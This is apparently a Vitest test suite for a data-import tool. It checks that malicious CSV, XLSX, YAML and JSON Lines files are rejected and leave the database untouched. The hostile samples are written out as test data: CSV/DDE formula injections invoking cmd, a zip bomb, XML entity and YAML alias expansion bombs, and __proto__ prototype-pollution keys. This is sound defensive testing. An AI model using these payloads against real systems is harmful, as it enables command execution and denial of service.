import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { readRecords } from '../../src/records/files/read.ts';
import { loadRecords } from '../../src/records/store/load.ts';
import { contentOf } from '../setup/content.ts';
import { database, seededGraph } from '../setup/graph.ts';
import { faultsOf } from '../setup/records.ts';
import { sheetXml, workbookOf } from '../setup/zip.ts';

let folder: string;
let before: Awaited<ReturnType<typeof contentOf>>;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'kruispunt-hostile-'));
  await seededGraph();
  before = await contentOf(database);
});

afterAll(() => rm(folder, { recursive: true }));

/** The faults of a file that is loaded, without the folder's name. Its load must leave the graph as it was. */
async function refused(name: string, content: string | Buffer): Promise<string[]> {
  const file = join(folder, name);
  await writeFile(file, content);
  const faults = await faultsOf(async () => loadRecords(database, await readRecords([file])));
  expect(await contentOf(database)).toEqual(before);
  return faults.map((fault) => fault.replaceAll(`${folder}/`, ''));
}

const huge = 'x'.repeat(10_000_000);
const themes = (label: string) => `id,label,labelEn\nnieuw,${label},New\n`;
const bomb = Buffer.alloc(150_000_000, ' ');
const row = (label: string) =>
  sheetXml([
    ['id', 'label', 'labelEn'],
    ['nieuw', label, 'New'],
  ]);

describe('A file that means harm is refused in a sentence, and the graph is left as it was:', () => {
  test.each([
    ['=HYPERLINK(""http://example.org?""&A1,""klik"")', '='],
    ["@SUM(1+1)*cmd|' /C calc'!A0", '@'],
    ["+cmd|' /C calc'!A0", '+'],
    ["-2+3+cmd|' /C calc'!A0", '-'],
    ['\t=1+1', '='],
  ])('a formula in CSV, %j', async (formula, sign) => {
    expect(await refused('themes.csv', themes(`"${formula}"`))).toEqual([
      `themes.csv:2: label: begins with '${sign}', which a spreadsheet runs as a formula. If it is text, put an apostrophe (') before it.`,
    ]);
  });

  test('a formula in a workbook, though its last value is harmless', async () => {
    expect(await refused('boek.xlsx', workbookOf({ content: row('<c t="str"><f>HYPERLINK("http://x")</f><v>Nieuw</v></c>') }))).toEqual([
      'boek.xlsx: themes!B2 (label): is a formula: put its value there as text or a number.',
    ]);
  });

  test('a workbook that unzips to more than it should', async () => {
    const file = workbookOf({ content: bomb });
    expect(file.length).toBeLessThan(200_000);
    expect(await refused('boek.xlsx', file)).toEqual([
      'boek.xlsx: the workbook unzips to more than 100 MB. Split it, or use CSV or JSON Lines.',
    ]);
  });

  test('a workbook that unzips to more than it says', async () => {
    expect(await refused('boek.xlsx', workbookOf({ content: bomb, says: 1000 }))).toEqual([
      'boek.xlsx: the file is not a workbook that can be read (.xlsx): Decompressed size exceeds limit of 1000 bytes (possible zip bomb).',
    ]);
    expect(await refused('boek.xlsx', workbookOf({ content: bomb, says: 0 }))).toEqual([
      'boek.xlsx: the workbook unzips to more than 100 MB. Split it, or use CSV or JSON Lines.',
    ]);
  });

  test('a workbook whose XML has entities that grow without end', async () => {
    const layers = Array.from({ length: 12 }, (_, n) => `<!ENTITY l${n} "${n === 0 ? 'bom' : `&l${n - 1};`.repeat(12)}">`).join('');
    const content = sheetXml(
      [
        ['id', 'label', 'labelEn'],
        ['nieuw', '&l11;', 'New'.repeat(200)],
      ],
      `<!DOCTYPE x [${layers}]>`,
    );
    const faults = await refused('boek.xlsx', workbookOf({ content }));
    expect(faults).toEqual(["boek.xlsx: themes!C2 (labelEn): must be at most 300 characters (in 'nieuw')."]);
  });

  test('a workbook that is none', async () => {
    expect(await refused('boek.xlsx', 'id,label\n')).toEqual([
      expect.stringMatching(/^boek\.xlsx: the file is not a workbook that can be read \(\.xlsx\): .+\.$/),
    ]);
  });

  test.each([
    [
      'a.yaml',
      `themes: [{ id: nieuw, label: ${huge}, labelEn: New }]`,
      'the file has 10 MB, which is more than 10 MB. Split it, or use JSON Lines.',
    ],
    [
      'a.yaml',
      `themes: [{ id: nieuw, label: ${huge.slice(100)}, labelEn: New }]`,
      ":1: themes[0].label: must be at most 300 characters (in 'nieuw').",
    ],
    ['a.jsonl', JSON.stringify({ type: 'Theme', id: 'nieuw', label: huge, labelEn: 'New' }), ':1: the line is longer than 8 MB.'],
    [
      'a.jsonl',
      JSON.stringify({ type: 'Theme', id: 'nieuw', label: huge.slice(5e6), labelEn: 'New' }),
      ":1: label: must be at most 300 characters (in 'nieuw').",
    ],
    ['themes.csv', themes(huge), ':2: the row is longer than 8 MB.'],
    ['themes.csv', `id,label,labelEn\nnieuw,"${huge}`, ':2: the row is longer than 8 MB.'],
    ['boek.xlsx', workbookOf({ content: row(huge) }), ": themes!B2 (label): must be at most 300 characters (in 'nieuw')."],
  ])('a text of ten million characters in %s', async (name, content, message) => {
    const [fault, ...others] = await refused(name, content);
    expect(fault?.startsWith(name) && fault.endsWith(message), fault?.slice(0, 300)).toBe(true);
    expect(others).toEqual([]);
  });

  test('names that JavaScript gives a meaning of its own', async () => {
    const line = (fields: string) => `{"type": "Theme", "id": "nieuw", "label": "Nieuw", "labelEn": "New", ${fields}}`;
    const proto = "'__proto__' can't be a name here.";
    expect(await refused('a.jsonl', line('"__proto__": {"polluted": 1}'))).toEqual([`a.jsonl:1: ${proto}`]);
    expect(await refused('a.jsonl', line('"cites": {"\\u005f_proto__": "3"}'))).toEqual([`a.jsonl:1: ${proto}`]);
    expect(await refused('a.jsonl', line('"constructor": {"prototype": {"polluted": 1}}'))).toEqual([
      "a.jsonl:1: constructor: there is no field 'constructor' (in 'nieuw').",
    ]);
    expect(await refused('a.jsonl', '{"type": "constructor", "id": "nieuw"}')).toEqual([
      "a.jsonl:1: type: there is no kind 'constructor'.",
    ]);
    expect(await refused('themes.csv', 'id,label,labelEn,__proto__\nnieuw,Nieuw,New,x\n')).toEqual([
      "themes.csv:1: there is no column '__proto__'.",
    ]);
    expect(await refused('themes.csv', 'id,label,labelEn,cites\nnieuw,Nieuw,New,__proto__: 3\n')).toEqual([
      `themes.csv:2: cites: ${proto}`,
    ]);
    expect(await refused('themes.csv', 'id,label,labelEn,broader\nnieuw,Nieuw,New,"[{""__proto__"": 1}]"\n')).toEqual([
      `themes.csv:2: broader: ${proto}`,
    ]);
    expect(await refused('boek.xlsx', workbookOf({ content: row('Nieuw') }, 'constructor'))).toEqual([
      "boek.xlsx: constructor!1: there is no table 'constructor', and no column 'type' tells the kind of its rows.",
    ]);
    expect({}).not.toHaveProperty('polluted');
  });

  test('control characters', async () => {
    const message = "must not contain control characters (in 'nieuw').";
    expect(await refused('a.jsonl', JSON.stringify({ type: 'Theme', id: 'nieuw', label: 'a\u0000b', labelEn: 'a\u202eb' }))).toEqual([
      `a.jsonl:1: label: ${message}`,
      `a.jsonl:1: labelEn: ${message}`,
    ]);
    expect(await refused('themes.csv', themes('a\u001bb'))).toEqual([`themes.csv:2: label: ${message}`]);
    expect(await refused('boek.xlsx', workbookOf({ content: row('a_x0007_b') }))).toEqual([`boek.xlsx: themes!B2 (label): ${message}`]);
    expect(await refused('a.yaml', 'themes: [{ id: nieuw, label: "a\\u0000b", labelEn: New }]')).toEqual([
      `a.yaml:1: themes[0].label: ${message}`,
    ]);
  });

  test('aliases in YAML that grow without end', async () => {
    const layers = Array.from(
      { length: 12 },
      (_, n) =>
        `l${n}: &l${n} [${Array(12)
          .fill(n === 0 ? 'bom' : `*l${n - 1}`)
          .join(', ')}]`,
    );
    expect(await refused('a.yaml', [...layers, 'themes: *l11'].join('\n'))).toEqual([
      "a.yaml: the file can't be read: Excessive alias count indicates a resource exhaustion attack.",
    ]);
  });

  test('text that is not UTF-8', async () => {
    const message = 'the file is not text in UTF-8. Save it as UTF-8 (in Excel: “CSV UTF-8”).';
    for (const name of ['themes.csv', 'a.jsonl', 'a.yaml']) {
      expect(await refused(name, Buffer.from('id;label;labelEn\ncoördinatie;x;y', 'latin1'))).toEqual([`${name}: ${message}`]);
    }
  });
});
